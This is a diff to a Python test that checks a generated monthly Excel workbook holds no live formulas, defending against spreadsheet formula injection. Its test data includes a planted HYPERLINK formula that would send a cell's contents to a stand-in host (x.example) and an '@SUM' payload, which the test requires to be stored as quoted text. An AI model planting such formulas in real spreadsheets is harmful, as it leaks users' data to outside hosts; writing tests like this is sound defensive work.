@@ -94,8 +94,8 @@ def test_no_cell_of_the_monthly_workbook_is_a_formula():
     out = io.BytesIO()
     monthly_report_xlsx(data, out)
     book = load_workbook(io.BytesIO(out.getvalue()))
-    values = [c.value for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
-    texts = [v for v in values if isinstance(v, str)]
-    assert "'=HYPERLINK(\"http://x.example/?\"&B2,\"باز کنید\")" in texts and "'@SUM(1+1)" in texts
-    assert not any(v.startswith(("=", "+", "@")) for v in texts)
-    assert all(c.data_type != "f" for sheet in book.worksheets for r in sheet.iter_rows() for c in r)
+    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
+    planted_cells = [c for c in cells if c.value in ('=HYPERLINK("http://x.example/?"&B2,"باز کنید")', "@SUM(1+1)")]
+    # Kept exactly as written, stored as text with Excel's quote prefix (never a formula).
+    assert len(planted_cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in planted_cells)
+    assert all(c.data_type != "f" for c in cells)
